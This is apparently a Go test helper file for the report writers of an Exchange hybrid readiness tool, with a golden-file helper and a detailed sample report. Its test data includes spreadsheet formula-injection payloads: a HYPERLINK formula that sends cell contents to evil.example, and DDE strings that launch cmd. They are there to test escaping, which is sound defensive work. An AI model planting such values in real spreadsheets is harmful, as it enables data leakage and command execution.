package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/exoready/exoready/evaluate"
)

// update rewrites the golden files of every writer test in this package:
// go test ./report -update
var update = flag.Bool("update", false, "rewrite testdata/*.golden")

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run go test ./report -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; run go test ./report -update and review the diff.\n--- got ---\n%s", name, got)
	}
}

// Values a spreadsheet would run as formulas if they were stored as such.
var formulaInjections = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-1+1`,
	"\t=1+1",
	"\r=1+1",
}

// longText is longer than an Excel cell holds, with a character outside
// the BMP (two UTF-16 units) straddling the cut.
var longText = strings.Repeat("x", excelCellLimit-utf16Len(truncatedMarker)-1) + "😀" + strings.Repeat("y", 8000)

var t0 = time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)

// sampleReport is a small but complete report: every sheet has rows, every
// status and severity appears, and some text is hostile.
func sampleReport() *evaluate.Report {
	wait := t0.Add(26 * time.Hour)
	rule := func(id, title, sev, cat string, st evaluate.Status, c evaluate.RuleCounts, blocks bool, requires ...string) evaluate.RuleResult {
		return evaluate.RuleResult{
			RuleMeta: evaluate.RuleMeta{
				ID: id, Title: title, Description: title + ": the rule's description.", Severity: sev, Category: cat,
				Remediation: "Fix it; see the references.", References: []string{"https://learn.microsoft.com/exchange/" + strings.ToLower(id)},
				Requires: requires, BlocksFlip: blocks, Package: "exoready." + strings.ToLower(strings.ReplaceAll(id, "-", "_")),
				File: "policies/" + strings.ToLower(id) + ".rego",
			},
			Status: st, Counts: c,
		}
	}
	obj := func(typ, id, name, dn string) evaluate.Object {
		return evaluate.Object{Type: typ, ID: id, DisplayName: name, DN: dn}
	}
	r := &evaluate.Report{
		SchemaVersion: evaluate.FindingsSchemaVersion,
		Tool:          evaluate.Tool{Name: "exoready", Version: "0.1.0-test", Commit: "abc1234"},
		ScanID:        "5e1f0c2a9b3d4e6f",
		Timings: evaluate.Timings{StartedAt: t0, FinishedAt: t0.Add(2 * time.Second),
			Phases: map[string]int64{"collect": 1200, "evaluate": 340}},
		Inputs: evaluate.Inputs{
			Snapshot: evaluate.SnapshotRef{SHA256: strings.Repeat("ab", 32), Bytes: 123456, SchemaVersion: 1,
				CollectedAt: t0.Add(-time.Hour), Forest: "corp.contoso.test", Tenant: "Contoso Ltd"},
			Files: []evaluate.InputFile{
				{Source: "ad", Path: "exports/ad.ldif", SHA256: strings.Repeat("01", 32), Bytes: 52011},
				{Source: "exo", Path: "exports/exo/Get-Mailbox.json", SHA256: strings.Repeat("02", 32), Bytes: 80123},
				{Source: "exo", Path: "exports/exo/Get-OrganizationConfig.json", SHA256: strings.Repeat("03", 32), Bytes: 2048},
			},
			Sources: map[string]evaluate.SourceRef{
				"ad":    {Collected: true, Complete: true, Method: "ldif", Origin: "exports/ad.ldif", Errors: []string{}},
				"exo":   {Collected: true, Complete: false, Method: "export", Origin: "exports/exo", Errors: []string{"exo.move_requests: Get-MoveRequest.json missing: export it with Get-MoveRequest | ConvertTo-Json -Depth 5"}},
				"entra": {Collected: false, Errors: []string{}},
			},
		},
		PolicyPack: evaluate.PolicyPack{Version: "2026.11.0", SHA256: strings.Repeat("cd", 32), Sources: []string{"embedded", "./custom"}, Rules: 6},
		Complete:   false,
		Rules: []evaluate.RuleResult{
			rule("EXR-DEP-001", "Mailboxes still hosted on-premises", "critical", "dependency", evaluate.StatusFail, evaluate.RuleCounts{Checked: 4, Failed: 1, Passed: 3}, false, "ad.users"),
			rule("EXR-GOV-001", "Who can toggle IsExchangeCloudManaged", "high", "governance", evaluate.StatusFail, evaluate.RuleCounts{Checked: 3, Failed: 1, Passed: 2}, false, "exo.role_assignments", "entra.role_assignments"),
			rule("EXR-MBX-001", "Dir-synced mailbox not yet cloud-managed", "critical", "mailbox", evaluate.StatusFail, evaluate.RuleCounts{Checked: 4, Failed: 2, Passed: 1, Waived: 1}, true, "joined"),
			rule("EXR-MBX-003", "Offboarding move on a cloud-managed mailbox", "critical", "mailbox", evaluate.StatusError, evaluate.RuleCounts{Errors: 1}, true, "exo.move_requests"),
			rule("EXR-MBX-008", "proxyAddresses hygiene", "medium", "mailbox", evaluate.StatusFail, evaluate.RuleCounts{Checked: 4, Failed: 1, Passed: 3}, false, "joined"),
			rule("EXR-SYNC-001", "Entra Connect Sync version", "critical", "sync", evaluate.StatusPass, evaluate.RuleCounts{Checked: 1, Passed: 1}, true, "facts"),
		},
		Findings: []evaluate.Finding{
			{UID: "0f1e2d3c4b5a69788796a5b4c3d2e1f0", RuleID: "EXR-DEP-001", Title: "Mailboxes still hosted on-premises", Severity: "critical", Category: "dependency",
				Status: evaluate.StatusFail, Object: obj("mailbox", "ad:6b1d", "Finance Archive", "CN=Finance Archive,OU=Shared,DC=corp,DC=contoso,DC=test"),
				Message:     "Mailbox Finance Archive is hosted on-premises (homeMDB DB01).",
				Evidence:    map[string]any{"home_mdb": "CN=DB01,CN=Databases,CN=Exchange Administrative Group (FYDIBOHF23SPDLT)", "recipient_type_details": "SharedMailbox"},
				Remediation: "New-MoveRequest -Identity 'Finance Archive' -Remote -RemoteHostName 'mail.contoso.test' -TargetDeliveryDomain 'contoso.mail.onmicrosoft.com'",
				References:  []string{"https://learn.microsoft.com/exchange/hybrid-deployment/move-mailboxes"}},
			{UID: "1a2b3c4d5e6f708192a3b4c5d6e7f809", RuleID: "EXR-GOV-001", Title: "Who can toggle IsExchangeCloudManaged", Severity: "high", Category: "governance",
				Status: evaluate.StatusFail, Object: obj("principal", "u-7", formulaInjections[0], ""),
				Message: formulaInjections[1], Evidence: map[string]any{"roles": []any{"Organization Management"}, "direct": true},
				Remediation: "Remove-ManagementRoleAssignment -Identity 'Mail Recipients-u7'", References: []string{}},
			{UID: "2b3c4d5e6f708192a3b4c5d6e7f8091a", RuleID: "EXR-MBX-001", Title: "Dir-synced mailbox not yet cloud-managed", Severity: "critical", Category: "mailbox",
				Status: evaluate.StatusFail, Object: obj("mailbox", "4f0c2b7e-0000-4000-8000-000000000001", "Adele Vance", "CN=Adele Vance,OU=Users,DC=corp,DC=contoso,DC=test"),
				Message: formulaInjections[2], Evidence: map[string]any{"ready": true},
				Remediation: "Set-Mailbox -Identity 'adele@contoso.test' -IsExchangeCloudManaged $true\nGet-Mailbox -Identity 'adele@contoso.test' | Format-List IsExchangeCloudManaged",
				References:  []string{"https://learn.microsoft.com/exchange/hybrid-deployment/enable-exchange-attributes-cloud-management"}},
			{UID: "3c4d5e6f708192a3b4c5d6e7f8091a2b", RuleID: "EXR-MBX-001", Title: "Dir-synced mailbox not yet cloud-managed", Severity: "critical", Category: "mailbox",
				Status: evaluate.StatusFail, Object: obj("mailbox", "4f0c2b7e-0000-4000-8000-000000000002", "Alex Wilber", ""),
				Message: formulaInjections[3], Evidence: map[string]any{"wait_until": wait.Format(time.RFC3339), "note": longText},
				Remediation: "Set-Mailbox -Identity 'alex@contoso.test' -IsExchangeCloudManaged $true", References: []string{}},
			{UID: "4d5e6f708192a3b4c5d6e7f8091a2b3c", RuleID: "EXR-MBX-001", Title: "Dir-synced mailbox not yet cloud-managed", Severity: "critical", Category: "mailbox",
				Status: evaluate.StatusWaived, Object: obj("mailbox", "4f0c2b7e-0000-4000-8000-000000000003", "Room 1 | Board", ""),
				Message: "Room mailbox not cloud-managed.", Evidence: map[string]any{},
				Remediation: "Set-Mailbox -Identity 'room1@contoso.test' -IsExchangeCloudManaged $true", References: []string{},
				Waiver: &evaluate.WaiverRef{ID: "W-2026-004", Reason: "Room system replaced in Q1", Owner: "it-facilities@contoso.test", Expires: "2027-01-31"}},
			{UID: "5e6f708192a3b4c5d6e7f8091a2b3c4d", RuleID: "EXR-MBX-003", Title: "Offboarding move on a cloud-managed mailbox", Severity: "critical", Category: "mailbox",
				Status: evaluate.StatusError, Object: obj("tenant", "tenant", "", ""),
				Message: "not assessed: Get-MoveRequest.json missing: export it with Get-MoveRequest | ConvertTo-Json -Depth 5", Evidence: map[string]any{},
				Remediation: "Re-run the export script.", References: []string{}},
			{UID: "6f708192a3b4c5d6e7f8091a2b3c4d5e", RuleID: "EXR-MBX-008", Title: "proxyAddresses hygiene", Severity: "medium", Category: "mailbox",
				Status: evaluate.StatusFail, Object: obj("mailbox", "4f0c2b7e-0000-4000-8000-000000000002", "Alex Wilber", ""),
				Message: longText, Evidence: map[string]any{"primaries": []any{"SMTP:alex@contoso.test", "SMTP:a.wilber@contoso.test"}},
				Remediation: "Set-RemoteMailbox -Identity 'alex' -EmailAddresses @{remove='SMTP:a.wilber@contoso.test'}", References: []string{}},
			{UID: "708192a3b4c5d6e7f8091a2b3c4d5e6f", RuleID: "EXR-SYNC-001", Title: "Entra Connect Sync version", Severity: "critical", Category: "sync",
				Status: evaluate.StatusPass, Object: obj("tenant", "tenant", "", ""),
				Message: "1 object checked, none failed", Evidence: map[string]any{}, Remediation: "Upgrade Entra Connect Sync.", References: []string{}},
		},
		Inventory: evaluate.Inventory{
			Mailboxes: []evaluate.MailboxRow{
				{ID: "4f0c2b7e-0000-4000-8000-000000000001", DisplayName: "Adele Vance", Kind: "user", Location: "remote", JoinMethod: "external_directory_object_id",
					AD:        map[string]any{"dn": "CN=Adele Vance,OU=Users,DC=corp,DC=contoso,DC=test", "user_principal_name": "adele@contoso.test", "proxy_addresses": []any{"SMTP:adele@contoso.test", "smtp:adele@contoso.mail.onmicrosoft.com"}, "recipient_type_details": "RemoteUserMailbox", "hidden_from_address_lists": false, "custom_attributes": map[string]any{"CustomAttribute3": "HR", "CustomAttribute10": "x"}, "target_address": "SMTP:adele@contoso.mail.onmicrosoft.com"},
					EXO:       map[string]any{"user_principal_name": "adele@contoso.test", "email_addresses": []any{"SMTP:adele@contoso.test", "smtp:adele@contoso.mail.onmicrosoft.com", "smtp:adele2@contoso.test"}, "recipient_type_details": "UserMailbox", "is_dir_synced": true, "is_exchange_cloud_managed": false, "hidden_from_address_lists_enabled": true, "custom_attributes": map[string]any{"CustomAttribute3": "Finance"}},
					Drift:     []string{"EmailAddresses", "HiddenFromAddressListsEnabled", "CustomAttribute3"},
					Readiness: evaluate.Readiness{State: evaluate.ReadyNow, Text: "ready to flip now", BlockedBy: []string{}}},
				{ID: "4f0c2b7e-0000-4000-8000-000000000002", DisplayName: "Alex Wilber", Kind: "user", Location: "remote", JoinMethod: "upn",
					AD:        map[string]any{"user_principal_name": "alex@contoso.test", "recipient_type_details": "RemoteUserMailbox"},
					EXO:       map[string]any{"user_principal_name": "alex@contoso.test", "recipient_type_details": "UserMailbox", "is_dir_synced": true, "is_exchange_cloud_managed": false},
					Drift:     []string{},
					Readiness: evaluate.Readiness{State: evaluate.ReadyWait, Text: "wait until " + wait.Format(time.RFC3339), BlockedBy: []string{}, WaitUntil: &wait}},
				{ID: "4f0c2b7e-0000-4000-8000-000000000004", DisplayName: "=HYPERLINK(\"http://evil.example\")", Kind: "shared", Location: "remote", JoinMethod: "primary_smtp",
					AD:        map[string]any{"user_principal_name": "shared@contoso.test"},
					EXO:       map[string]any{"is_dir_synced": true, "is_exchange_cloud_managed": true},
					Drift:     []string{},
					Readiness: evaluate.Readiness{State: evaluate.ReadyCloudManaged, Text: "already cloud-managed", BlockedBy: []string{}}},
				{ID: "ad:6b1d", DisplayName: "Finance Archive", Kind: "shared", Location: "onprem",
					AD:        map[string]any{"home_mdb": "CN=DB01", "recipient_type_details": "SharedMailbox"},
					Drift:     []string{},
					Readiness: evaluate.Readiness{State: evaluate.ReadyBlocked, Text: "blocked by EXR-DEP-001", BlockedBy: []string{"EXR-DEP-001"}}},
			},
			Sections: map[string][]map[string]any{
				"toggle_principals": {
					{"principal": "admin@contoso.test", "type": "user", "role": "Organization Management", "via": []any{"Organization Management", "Mail Recipients"}, "scope": "Organization", "source": "EXO", "rule_id": "EXR-GOV-001"},
					{"principal": "sp-automation", "type": "service_principal", "role": "Exchange Administrator", "via": []any{"Exchange Administrator"}, "scope": "Directory", "source": "Entra", "assignment_id": "ra-1"},
					{"principal": "helpdesk@contoso.test", "display_name": "@SUM(1)", "type": "group", "via": "Recipient Management", "source": "EXO"},
				},
				"dependencies": {
					{"order": json.Number("3"), "type": "organization_relationship", "name": "O365 to On-Premises - 1234", "rule_id": "EXR-DEP-006", "action": "Remove-OrganizationRelationship"},
					{"order": 1.0, "type": "hybrid_configuration", "name": "Hybrid Configuration", "rule_id": "EXR-DEP-006", "dn": "CN=Hybrid Configuration,CN=Contoso"},
					{"type": "server", "name": "EX01", "build": "15.2.1544.4"},
					{"order": 2.0, "type": "intra_organization_connector", "name": "HybridIOC - 1234", "rule_id": "EXR-DEP-006"},
				},
			},
		},
	}
	r.Summary = evaluate.Summary{
		Verdicts: evaluate.Verdicts{
			Decommission: evaluate.DecommissionVerdict{Ready: false,
				Text:     "NOT READY to decommission: 2 critical rules fail (EXR-DEP-001, EXR-MBX-001); 1 critical rule not assessed",
				Blockers: []string{"EXR-DEP-001", "EXR-MBX-001"}, Unassessed: []string{"EXR-MBX-003"}},
			Flip: evaluate.FlipVerdict{Mailboxes: 4,
				ByState: map[string]int{evaluate.ReadyCloudManaged: 1, evaluate.ReadyNow: 1, evaluate.ReadyWait: 1, evaluate.ReadyBlocked: 1, evaluate.ReadyUnknown: 0, evaluate.ReadyNotApplicable: 0},
				Text:    "1 of 4 synced mailboxes cloud-managed; 1 ready to flip now, 1 must wait, 1 blocked, 0 unknown", TenantBlockers: []string{}},
		},
		BySeverity: map[string]int{"critical": 3, "high": 1, "medium": 1, "low": 0, "info": 0},
		ByStatus:   map[string]int{"fail": 5, "pass": 1, "error": 1, "waived": 1},
		ByCategory: map[string]int{"dependency": 1, "governance": 1, "mailbox": 3},
	}
	return r
}

// snapshotJSON is a deep copy of a report's content, to prove writers
// leave it alone.
func snapshotJSON(t testing.TB, r *evaluate.Report) string {
	t.Helper()
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
